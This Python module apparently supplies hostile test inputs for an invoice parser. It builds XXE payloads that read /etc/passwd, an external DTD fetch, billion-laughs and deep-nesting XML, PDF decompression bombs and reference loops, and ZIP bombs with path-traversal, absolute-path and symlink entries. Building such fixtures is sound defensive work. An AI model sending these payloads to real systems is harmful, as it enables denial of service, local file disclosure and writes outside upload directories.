"""Files made to hurt a reader, each small enough to be mailed.

Every function returns the bytes of one attack; the names say which.
"""

from __future__ import annotations

import functools
import io
import stat
import zipfile
import zlib

CII = "urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"


def xxe() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<!-- harmless -->\n'
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">'
        b"&x;</Invoice>"
    )


def xxe_utf16() -> bytes:
    text = xxe().decode().replace('<?xml version="1.0"?>\n', "")
    return text.encode("utf-16")


def external_dtd() -> bytes:
    return b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>'


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE a [<!ENTITY l0 "ha">{entities}]><a b="&l9;">&l9;</a>'.encode()


def deep_xml(depth: int = 50_000) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def wide_xml(count: int = 10_000_000) -> bytes:
    return b"<a>" + b"<b/>" * count + b"</a>"


def many_attributes(count: int = 2_000_000) -> bytes:
    return b"<a " + b'a="" ' * count + b"/>"


def _pdf(objects: list[bytes], root: int = 1, extra: bytes = b"") -> bytes:
    """Assemble numbered objects with a classical cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        out.write(b"%010d 00000 n \n" % place)
    out.write(
        b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, extra, start)
    )
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


@functools.cache
def _blanks(megabytes: int, start: bytes = b"") -> bytes:
    """Pack a run of blanks without holding it: one packed block, repeated."""
    packer = zlib.compressobj(9)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * 1024 * 1024) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + packer.flush()


_PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
_SPEC = b"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/EF<</F 4 0 R>>>>"


def _with_file(embedded: bytes) -> bytes:
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R"
        b"/Names<</EmbeddedFiles<</Names[(factur-x.xml) 3 0 R]>>>>>>"
    )
    return _pdf([catalog, _PAGES, _SPEC, embedded])


def pdf_embedded_bomb() -> bytes:
    return _with_file(stream(_blanks(1500, b"<a>")))


def pdf_nested_filters() -> bytes:
    data = zlib.compress(_blanks(1500, b"<a>"), 9)
    return _with_file(stream(data, b"/Filter[/FlateDecode/FlateDecode]"))


def pdf_object_stream_bomb() -> bytes:
    """Hide the catalog in an object stream that unpacks to gigabytes."""
    data = _blanks(1500, b"1 0 <</Type/Catalog/Names 1 0 R>>")
    body = stream(data, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    out = b"%PDF-1.7\n5 0 obj\n" + body + b"\nendobj\n"
    rows = b"\x02\x00\x00\x00\x05\x00" + b"\x01" + (9).to_bytes(4, "big") + b"\x00"
    index = stream(
        zlib.compress(rows),
        b"/Type/XRef/W[1 4 1]/Index[1 1 5 1]/Size 6/Root 1 0 R/Filter/FlateDecode",
    )
    start = len(out)
    out += b"6 0 obj\n" + index + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % start


def pdf_cross_reference_bomb() -> bytes:
    index = stream(
        _blanks(1500),
        b"/Type/XRef/W[1 4 1]/Size 90000000/Root 1 0 R/Filter/FlateDecode",
    )
    out = b"%PDF-1.7\n/EmbeddedFiles\n"
    start = len(out)
    return out + b"6 0 obj\n" + index + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def pdf_kids_loop() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 3 0 R>>>>"
    return _pdf([catalog, _PAGES, b"<</Kids[3 0 R 3 0 R]>>"])


def pdf_previous_loop() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 3 0 R>>>>"
    plain = _pdf([catalog, _PAGES, b"<</Kids[]>>"])
    start = plain.index(b"xref\n")
    return plain.replace(b"/Root", b"/Prev %d/Root" % start)


def pdf_deep_arrays(depth: int = 100_000) -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 3 0 R>>>>"
    return _pdf([catalog, _PAGES, b"[" * depth + b"]" * depth])


def pdf_reference_loop() -> bytes:
    catalog = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 3 0 R>>>>"
    return _pdf([catalog, _PAGES, b"4 0 R", b"3 0 R"])


def pdf_many_objects(count: int = 600_000) -> bytes:
    body = b"".join(b"%d 0 obj null endobj\n" % n for n in range(1, count))
    return b"%PDF-1.7\n/EmbeddedFiles\n" + body + b"startxref\n0\n%%EOF\n"


def pdf_many_files(count: int = 50_000) -> bytes:
    names = b"(a)3 0 R " * count
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[%s]>>>>>>" % names
    )
    return _pdf([catalog, _PAGES, _SPEC, stream(zlib.compress(b"<a/>"))])


_BOMB_SIZE = 110 * 1024 * 1024


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


@functools.cache
def zip_bomb() -> bytes:
    return _zip(("bomb.xml", b" " * _BOMB_SIZE))


def zip_lying_about_size() -> bytes:
    """Declare one byte for a member that unpacks to many."""
    return zip_bomb().replace(
        _BOMB_SIZE.to_bytes(4, "little"), (1).to_bytes(4, "little")
    )


def zip_many_members(count: int = 3_000) -> bytes:
    return _zip(*((f"{n}.xml", b"") for n in range(count)))


def zip_parent_name() -> bytes:
    return _zip(("../../etc/cron.d/x", b"x"))


def zip_absolute_name() -> bytes:
    return _zip(("/etc/passwd", b"x"))


def zip_drive_name() -> bytes:
    return _zip(("C:\\windows\\x.xml", b"x"))


def zip_symbolic_link() -> bytes:
    link = zipfile.ZipInfo("invoice.xml")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _zip((link, b"/etc/passwd"))


def zip_nested() -> bytes:
    return _zip(("inner.zip", _zip(("a.xml", b"<a/>"))))
